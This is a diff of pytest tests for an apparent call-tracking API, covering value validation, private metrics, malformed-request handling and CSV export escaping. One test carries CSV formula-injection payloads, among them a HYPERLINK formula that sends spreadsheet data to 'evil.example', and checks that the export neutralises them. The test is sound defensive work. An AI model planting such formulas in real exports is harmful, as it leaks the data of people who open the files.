@@ -5,9 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import socket
 import threading
 import time
+from urllib.parse import urlencode
 
 import httpx
 import pytest
@@ -244,6 +246,79 @@ def test_export_csv(client, clock):
     assert [row["call_id"] for row in csv.DictReader(io.StringIO(r.text))] == ["call-2"]
 
 
+# -- plausible values ---------------------------------------------------------------------------
+DAY = 86400
+
+
+@pytest.mark.parametrize("change,field", [
+    ({"started_at": 1e300}, "started_at"),                    # stored, and then beyond the export's end
+    ({"started_at": 10 ** 30}, "started_at"),
+    ({"started_at": "T0+2d"}, "started_at"),                   # telephony clocks are wrong by hours, not days
+    ({"started_at": "T0-401d"}, "started_at"),
+    ({"duration_seconds": DAY + 1}, "duration_seconds"),
+    ({"duration_seconds": 1e300}, "duration_seconds"),
+])
+def test_implausible_calls_are_422(client, clock, engine, change, field):
+    call = {"call_id": "odd", "number": "+74950000001", "started_at": clock.t, "duration_seconds": 60}
+    for k, v in change.items():
+        call[k] = {"T0+2d": clock.t + 2 * DAY, "T0-401d": clock.t - 401 * DAY}.get(v, v) if isinstance(v, str) else v
+    r = client.post("/v1/calls", json=call, headers=AUTH)
+    assert r.status_code == 422, r.text
+    assert [p["field"] for p in r.json()["problems"]] == [field]
+    assert engine.store.count("calls") == 0
+
+
+def test_calls_at_the_edges_of_plausible_are_stored_and_exported(client, clock):
+    edges = {"old": clock.t - 400 * DAY, "ahead": clock.t + DAY, "long": clock.t}
+    for cid, at in edges.items():
+        call = {"call_id": cid, "number": "+74950000001", "started_at": at,
+                "duration_seconds": DAY if cid == "long" else 30}
+        assert client.post("/v1/calls", json=call, headers=AUTH).status_code == 200
+    rows = client.get("/v1/calls", headers=AUTH).json()["calls"]
+    assert [r["call_id"] for r in rows] == ["old", "long", "ahead"]
+    text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
+    assert [r["call_id"] for r in csv.DictReader(io.StringIO(text))] == ["old", "long", "ahead"]
+
+
+def test_export_csv_escapes_formulas_from_the_public_visit(client, clock):
+    """utm values and the _ga cookie reach the export from anyone's browser: in the CSV every cell that
+    starts with = + - @ tab or CR gets a leading quote (OWASP), E.164 numbers too; the JSON is as given."""
+    query = urlencode({"utm_source": '=HYPERLINK("http://evil.example/?"&A1,"open")', "utm_medium": "+1+cmd",
+                       "utm_campaign": "-2+3", "gclid": "x"})   # an ad click id: the ads rule, a msk number
+    shown = client.post("/v1/visit", json={"url": f"{SITE}/sale?{query}", "visitor_id": "@vid",
+                                           "cookies": {"_ga": "GA1.1.\t=1+1.@SUM(A1)"}}).json()
+    call = {"call_id": "csv-1", "number": shown["number"], "caller": "+79161234567", "started_at": clock.t + 5}
+    assert client.post("/v1/calls", json=call, headers=AUTH).json()["status"] == "matched"
+    text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["utm_source"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (row["utm_medium"], row["utm_campaign"]) == ("'+1+cmd", "'-2+3")
+    assert row["ga_client_id"] == "'\t=1+1.@SUM(A1)" and row["visitor_id"] == "'@vid"
+    assert row["number"] == "'" + shown["number"] and row["caller"] == "'+79161234567"
+    for cells in csv.reader(io.StringIO(text)):
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
+    (plain,) = client.get("/v1/calls", headers=AUTH).json()["calls"]      # JSON: the values themselves
+    assert plain["number"] == shown["number"] and plain["attributes"]["utm"]["utm_campaign"] == "-2+3"
+
+
+def test_a_crowded_number_answers_a_bounded_ambiguous_call(engine, clock):
+    """500 visitors on the demo's 10 numbers (shared when exhausted): a call to one of them is answered
+    with its 20 likeliest candidates and the count of the rest, not with everyone."""
+    for i in range(500):
+        engine.assign({"visitor_id": f"crowd{i:03d}", "url": CAMPAIGN}, now=clock.t + i)
+    with TestClient(create_app(engine, api_keys=[KEY], now=clock)) as c:
+        clock.t += 600
+        r = c.post("/v1/calls", json={"call_id": "crowd", "number": "+74950000001", "started_at": clock.t - 10},
+                   headers=AUTH)
+        got = r.json()
+        assert got["status"] == "ambiguous" and len(got["candidates"]) == 20
+        assert got["more_candidates"] >= 20 and len(got["candidates"]) + got["more_candidates"] >= 45
+        assert len(r.content) < 8_000                     # ~150 bytes a candidate, whatever the crowd
+        again = c.post("/v1/calls", json={"call_id": "crowd", "number": "+74950000001",
+                                          "started_at": clock.t - 10}, headers=AUTH).json()
+        assert again == got                                # a retried webhook: the answer recorded
+
+
 @pytest.mark.parametrize("query,field", [({"since": "yesterday"}, "since"), ({"until": "nan"}, "until"),
                                          ({"status": "great"}, "status"), ({"limit": "0"}, "limit"),
                                          ({"limit": "10000"}, "limit"), ({"cursor": "!!notacursor"}, "cursor"),
@@ -266,6 +341,54 @@ def test_pools(client):
 def test_healthz(client):
     r = client.get("/healthz")
     assert r.status_code == 200 and r.json()["status"] == "ok"
+    assert "pid" not in r.json() and str(os.getpid()) not in r.text    # open to anyone: no process details
+
+
+def test_metrics_are_private(engine, clock):
+    """/metrics (pool sizes, traffic, the process id) needs a key, as /v1/pools does; a scrape-only
+    metrics key opens it and nothing else."""
+    app = create_app(engine, api_keys=[KEY], metrics_keys=["scrape-only"], now=clock)
+    with TestClient(app) as c:
+        for headers in ({}, {"X-API-Key": "wrong"}, {"Authorization": "Bearer "}):
+            r = c.get("/metrics", headers=headers)
+            assert r.status_code == 401 and r.json()["error"] and "k50_" not in r.text
+        assert c.get("/metrics", headers=AUTH).status_code == 200
+        scraped = c.get("/metrics", headers={"Authorization": "Bearer scrape-only"})
+        assert scraped.status_code == 200 and f'k50_process{{pid="{os.getpid()}"}} 1' in scraped.text
+        assert c.get("/v1/pools", headers={"X-API-Key": "scrape-only"}).status_code == 401
+        assert c.get("/v1/calls", headers={"X-API-Key": "scrape-only"}).status_code == 401
+
+
+@pytest.mark.parametrize("path", ["/v1/visit", "/v1/heartbeat", "/v1/calls"])
+def test_a_malformed_content_length_is_a_json_400(client, path):
+    r = client.post(path, content=b'{"url": "https://x.ru/"}', headers={**AUTH, "Content-Length": "abc"})
+    assert r.status_code == 400 and r.json()["error"] == "bad Content-Length"
+
+
+def test_the_served_service_answers_unparsable_requests_with_json(tmp_path):
+    """`k50core serve`: uvicorn refuses a request it cannot parse before the app sees it; its answer is
+    the service's JSON error, not a bare text/plain 400."""
+    proc, base = start_serve("--store", str(tmp_path / "k50.db"), "--api-key", KEY)
+    try:
+        port = int(base.rsplit(":", 1)[1])
+        for head in (b"POST /v1/calls HTTP/1.1\r\nHost: k50\r\nX-API-Key: " + KEY.encode() +
+                     b"\r\nContent-Type: application/json\r\nContent-Length: abc\r\n\r\n{}",
+                     b"POST /v1/visit HTTP/1.1\r\nHost: k50\r\nContent-Length: abc\r\n\r\n{}",
+                     b"GET /healthz HTTP/1.1\r\nHost: k50\r\nBad Header\r\n\r\n"):
+            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+                s.sendall(head)
+                answer = b""
+                while chunk := s.recv(65536):
+                    answer += chunk
+            status, _, rest = answer.partition(b"\r\n")
+            headers, _, body = rest.partition(b"\r\n\r\n")
+            assert status.startswith(b"HTTP/1.1 400"), answer
+            assert b"content-type: application/json" in headers.lower()
+            assert json.loads(body)["error"].startswith("invalid HTTP request")
+        assert httpx.get(f"{base}/healthz").json()["status"] == "ok"        # and it serves on
+    finally:
+        proc.terminate()
+        proc.wait(timeout=30)
 
 
 def test_metrics(client, clock):
@@ -274,7 +397,7 @@ def test_metrics(client, clock):
     client.post("/v1/calls", json={"call_id": "m", "number": "+74950000001", "started_at": clock.t - 99_999},
                 headers=AUTH)
     client.post("/v1/calls", json={}, headers={"X-API-Key": "nope"})
-    r = client.get("/metrics")
+    r = client.get("/metrics", headers=AUTH)
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/plain")
     text = r.text
     assert '# TYPE k50_http_requests_total counter' in text
@@ -377,7 +500,7 @@ def test_a_flood_gets_the_site_number_and_takes_nothing(engine, clock):
         assert limited >= 40 + 8 - 30 - 3                          # the IP's burst of 30 is spent
         claims = c.get("/v1/pools", headers={"X-API-Key": KEY}).json()
         assert sum(p.get("claims", 0) for p in claims["pools"].values()) <= 30
-        metrics = c.get("/metrics").text
+        metrics = c.get("/metrics", headers={"X-API-Key": KEY}).text
         assert 'k50_visits_rate_limited_total{limit="visitor"} 3' in metrics
         assert f'k50_visits_rate_limited_total{{limit="ip"}} {limited}' in metrics
 
@@ -407,6 +530,14 @@ def start_serve(*args: str):
     raise AssertionError("the service did not start")
 
 
+def worker_pid(client, base):
+    """The id of the worker process that answered: in the private /metrics (the open /healthz has none)."""
+    import re
+
+    text = client.get(f"{base}/metrics", headers=AUTH).text
+    return int(re.search(r'^k50_process\{pid="(\d+)"\} 1$', text, re.M).group(1))
+
+
 def test_workers_share_one_pool(tmp_path):
     """`serve --workers 2`: two processes, one SQLite store and one pool segment beside it; concurrent
     visits never get the same unshared number, and a call is attributed whichever worker answers."""
@@ -417,7 +548,7 @@ def test_workers_share_one_pool(tmp_path):
         def one(i):
             with httpx.Client() as c:  # a connection each: the workers take turns accepting
                 got = c.post(f"{base}/v1/visit", json={"url": CAMPAIGN, "visitor_id": f"w{i}"}).json()
-                return got, c.get(f"{base}/healthz").json()["pid"]
+                return got, worker_pid(c, base)
 
         with ThreadPoolExecutor(8) as pool:
             answers = list(pool.map(one, range(24)))
@@ -428,7 +559,7 @@ def test_workers_share_one_pool(tmp_path):
             if len(pids) == 2:
                 break
             with httpx.Client() as c:
-                pids.add(c.get(f"{base}/healthz").json()["pid"])
+                pids.add(worker_pid(c, base))
         assert len(pids) == 2 and proc.pid not in pids          # two workers served, the CLI only manages
         first = answers[0][0]
         got = httpx.post(f"{base}/v1/calls", headers=AUTH,
